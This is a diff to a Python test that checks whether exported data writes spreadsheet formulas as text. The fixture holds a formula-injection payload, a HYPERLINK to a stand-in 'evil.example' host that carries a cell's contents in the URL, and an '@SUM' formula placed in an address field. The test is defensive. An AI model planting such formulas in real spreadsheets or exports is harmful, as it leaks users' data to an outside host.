@@ -127,7 +127,7 @@ def test_problems_come_first_and_warnings_are_summarised(cadena_cli, tmp_path):
 def test_every_export_writes_formulas_as_text_through_the_service(node, pilot_record, tmp_path):
     name, address = '=HYPERLINK("http://evil.example/?d="&B3,"Click")', "@SUM(1+1)"
     with serving(node.url, pilot_record, tmp_path) as (url, officer):
-        officer.issue(MasterData("MXEVIL00000001", name, address, "importer", "2024-01-01"))
+        officer.issue(MasterData("MXEVIL00000001", name, address, "importer", "2024-01-01"), visibility="published")
         deadline = time.monotonic() + 20
         while time.monotonic() < deadline and not requests.get(f"{url}/v1/certificates/MXEVIL00000001").ok:
             time.sleep(0.1)
